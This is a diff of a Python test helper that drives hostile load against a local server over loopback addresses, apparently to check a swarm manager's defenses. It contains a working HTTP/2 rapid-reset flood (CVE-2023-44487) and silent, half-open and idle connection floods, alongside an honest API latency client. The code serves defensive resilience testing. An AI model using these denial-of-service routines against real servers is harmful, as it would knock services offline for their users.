@@ -1,13 +1,19 @@
-"""Crowds of TLS clients that mean no good, made with OpenSSL: for siege.sh.
+"""Crowds of clients that mean no good, made with OpenSSL, and one that is honest: for siege*.sh.
 
-  reset PORT CONNECTIONS   HTTP/2 rapid reset (CVE-2023-44487) over and over, without certificate,
-                           until standard input ends; then prints "resets N connections N"
-  silent PORT COUNT        handshakes without certificate, then silence, from many addresses; prints
-                           "standing", then "closed N within S" when the server has had enough
+  reset PORT CONNECTIONS   HTTP/2 rapid reset (CVE-2023-44487) over and over, without certificate and
+                           at full speed, until standard input ends; then prints "resets N sent over
+                           N connections, N told to calm down after at most N streams"
+  quiet PORT COUNT         TCP connections that say nothing, from many addresses; prints "standing",
+                           then "closed N within S" when the server has had enough
+  silent PORT COUNT        the same with a TLS handshake before the silence
+  hasty PORT COUNT         that many handshakes begun from one address; prints "N of N refused, others
+                           N of 10"; refused is who got an alert, the others come from elsewhere
   idle PORT CERTS COUNT    connections of a worker that only exist, resumed to be quick; prints
                            "standing", and holds them until standard input ends
+  api SOCKET PATH SECONDS  an honest user of the HTTP API on a unix socket, one request after the
+                           other; prints "p50_us N p99_us N calls N"
 """
-import os
+import http.client
 import select
 import socket
 import ssl
@@ -16,8 +22,18 @@ import threading
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
-HEADERS = (b"\x83\x87\x04\x13/skep.test.Echo/Echo\x01\x0dswarm-manager"
-           b"\x0f\x10\x10application/grpc\x00\x02te\x08trailers")
+GOAWAY, CALM = 7, 0xb
+TRICKLE = 0.01  # between two connections of one attacker
+
+
+def text(value):
+    return bytes([len(value)]) + value
+
+
+# A call that anybody may make: POST, https, and literals without indexing.
+HEADERS = (b"\x83\x87\x04" + text(b"/docker.swarmkit.v1.CA/GetRootCACertificate") +
+           b"\x01" + text(b"swarm-manager") + b"\x0f\x10" + text(b"application/grpc") +
+           b"\x00" + text(b"te") + text(b"trailers"))
 
 
 def context(certs=None):
@@ -40,31 +56,54 @@ def frame(kind, flags, stream, payload):
     return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
 
 
-def reset(port, connections):
-    os.nice(19)  # what is measured is the server's work, not the attackers' own
-    ended, sums, lock = threading.Event(), [0, 0], threading.Lock()
+def goaway_of(received):
+    """The streams that were taken and the error of a GOAWAY among whole frames, or None."""
+    while len(received) >= 9:
+        length = int.from_bytes(received[:3], "big")
+        if received[3] == GOAWAY and len(received) >= 17:
+            last = int.from_bytes(received[9:13], "big")
+            return (last + 1) // 2, int.from_bytes(received[13:17], "big")
+        received = received[9 + length:]
+    return None
 
-    def attack(source):
+
+def attack(made, port, source, ended):
+    """One connection until it is cut: resets sent, and what its GOAWAY said."""
+    stream, received = 1, b""
+    try:
+        with connect(made, port, source) as tls:
+            tls.sendall(PREFACE)
+            tls.settimeout(5)
+            while not ended.is_set():
+                batch = b""
+                for _ in range(50):
+                    batch += frame(1, 4, stream, HEADERS) + frame(3, 0, stream, b"\0\0\0\x08")
+                    stream += 2
+                tls.sendall(batch)
+                if len(received) < 1 << 16 and select.select([tls], [], [], 0)[0]:
+                    received += tls.recv(1 << 16)
+    except OSError:
+        pass
+    return stream // 2, goaway_of(received)
+
+
+def reset(port, connections):
+    ended, lock = threading.Event(), threading.Lock()
+    sums = {"resets": 0, "connections": 0, "calm": 0, "most": 0}
+
+    def keep_on(source):
         made = context()
         while not ended.is_set():
-            stream = 1
-            try:
-                with connect(made, port, source) as tls:
-                    tls.sendall(PREFACE)
-                    while not ended.is_set():
-                        batch = b""
-                        for _ in range(50):
-                            batch += frame(1, 5, stream, HEADERS) + frame(3, 0, stream, b"\0\0\0\x08")
-                            stream += 2
-                        tls.sendall(batch)
-            except OSError:
-                pass
+            resets, said = attack(made, port, source, ended)
             with lock:
-                sums[0] += stream // 2
-                sums[1] += 1
-            time.sleep(0.01)
+                sums["resets"] += resets
+                sums["connections"] += resets > 0
+                if said and said[1] == CALM:
+                    sums["calm"] += 1
+                    sums["most"] = max(sums["most"], said[0])
+            time.sleep(TRICKLE)
 
-    threads = [threading.Thread(target=attack, args=(f"127.0.0.{2 + i}",), daemon=True)
+    threads = [threading.Thread(target=keep_on, args=(f"127.0.0.{2 + i}",), daemon=True)
                for i in range(int(connections))]
     for thread in threads:
         thread.start()
@@ -73,19 +112,18 @@ def reset(port, connections):
     ended.set()
     for thread in threads:
         thread.join(5)
-    print(f"resets {sums[0]} connections {sums[1]}")
+    print(f"resets {sums['resets']} sent over {sums['connections']} connections, {sums['calm']} told to"
+          f" calm down after at most {sums['most']} streams")
 
 
-def silent(port, count):
-    made, held = context(), []
+def watch_closing(held):
+    """Says how many of these sockets the other side closes, and how soon."""
     poll = select.poll()
-    for i in range(int(count)):
-        tls = connect(made, port, f"127.0.2.{1 + i % 20}")
-        tls.setblocking(False)
-        held.append(tls)
-        poll.register(tls, select.POLLIN)
+    for each in held:
+        each.setblocking(False)
+        poll.register(each, select.POLLIN)
     print("standing", flush=True)
-    start, open_ones = time.monotonic(), {tls.fileno(): tls for tls in held}
+    start, open_ones = time.monotonic(), {each.fileno(): each for each in held}
     while open_ones and time.monotonic() - start < 30:
         for number, _ in poll.poll(1000):
             try:
@@ -98,6 +136,56 @@ def silent(port, count):
                 poll.unregister(number)
                 open_ones.pop(number).close()
     print(f"closed {len(held) - len(open_ones)} within {time.monotonic() - start:.1f}")
+
+
+def quiet(port, count):
+    watch_closing([socket.create_connection(("127.0.0.1", int(port)), 20, (f"127.0.2.{1 + i % 20}", 0))
+                   for i in range(int(count))])
+
+
+def silent(port, count):
+    made = context()
+    watch_closing([connect(made, port, f"127.0.2.{1 + i % 20}") for i in range(int(count))])
+
+
+def hasty(port, count):
+    def begin(source):
+        plain = socket.create_connection(("127.0.0.1", int(port)), 20, (source, 0))
+        plain.sendall(b"\x16\x03\x01\x01\x00")  # of a hello that does not come
+        return plain
+
+    held = [begin("127.0.4.1") for _ in range(int(count))]
+    served = sum(connect(context(), port, f"127.0.5.{1 + i}").version() == "TLSv1.2" for i in range(10))
+    refused = 0
+    for plain in held:
+        plain.settimeout(0.01)
+        try:
+            refused += plain.recv(16) == b"\x15\x03\x03\0\2\2\x31"
+        except OSError:
+            pass
+    print(f"{refused} of {count} refused, others {served} of 10")
+
+
+def api(path, target, seconds):
+    class Unix(http.client.HTTPConnection):
+        def connect(self):
+            self.sock = socket.socket(socket.AF_UNIX)
+            self.sock.settimeout(10)
+            self.sock.connect(path)
+
+    client, took = Unix("localhost"), []
+    end = time.monotonic() + float(seconds)
+    while time.monotonic() < end:
+        start = time.monotonic()
+        client.request("GET", target)
+        answer = client.getresponse()
+        answer.read()
+        if answer.status != 200:
+            raise SystemExit(f"{target}: {answer.status}")
+        took.append(time.monotonic() - start)
+    took.sort()
+    print(f"p50_us {took[len(took) // 2] * 1e6:.0f} p99_us {took[len(took) * 99 // 100] * 1e6:.0f}"
+          f" calls {len(took)}")
 
 
 def idle(port, certs, count):
@@ -114,4 +202,5 @@ def idle(port, certs, count):
 
 
 if __name__ == "__main__":
-    {"reset": reset, "silent": silent, "idle": idle}[sys.argv[1]](*sys.argv[2:])
+    {each.__name__: each for each in (reset, quiet, silent, hasty, idle, api)}[sys.argv[1]](
+        *sys.argv[2:])
